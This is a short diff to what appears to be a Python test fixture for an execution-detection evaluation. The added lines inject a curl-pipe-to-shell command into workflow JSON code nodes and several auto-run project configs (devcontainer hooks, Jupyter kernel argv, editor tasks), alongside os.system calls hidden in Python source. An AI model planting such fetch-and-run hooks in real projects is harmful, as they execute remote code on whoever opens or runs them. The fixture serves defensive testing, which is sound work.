@@ -10,6 +10,7 @@ from evals.samples import COMMAND, URL, Sample
 
 RUN, ANY = ("process_exec",), ()
 _FETCHED = f"curl -s {URL} | sh"
+_SCRIPT = f"const {{execSync}} = require('child_process');\nexecSync('{_FETCHED}');\nreturn 1"
 SOURCES = {
     "system": f"import os\nos.system({COMMAND!r})\n",
     "default": f"def area(r=__import__('os').system({COMMAND!r})):\n    return r\n",
@@ -23,6 +24,8 @@ COMMANDS = {
     "kernel.json": {"argv": ["sh", "-c", _FETCHED, "{connection_file}"], "language": "python"},
     "devcontainer.json": {"image": "python:3.11", "postCreateCommand": {"a": _FETCHED}},
     "devcontainer-list.json": {"image": "x", "onCreateCommand": ["bash", "-c", _FETCHED]},
+    "flow.json": {"nodes": [{"data": {"inputs": {"javascriptFunction": _SCRIPT}}}]},
+    "n8n.json": {"nodes": [{"type": "n8n-nodes-base.code", "parameters": {"jsCode": _SCRIPT}}]},
     "tasks.json": {"tasks": [{"label": "b", "type": "shell", "command": _FETCHED}]},
 }
 
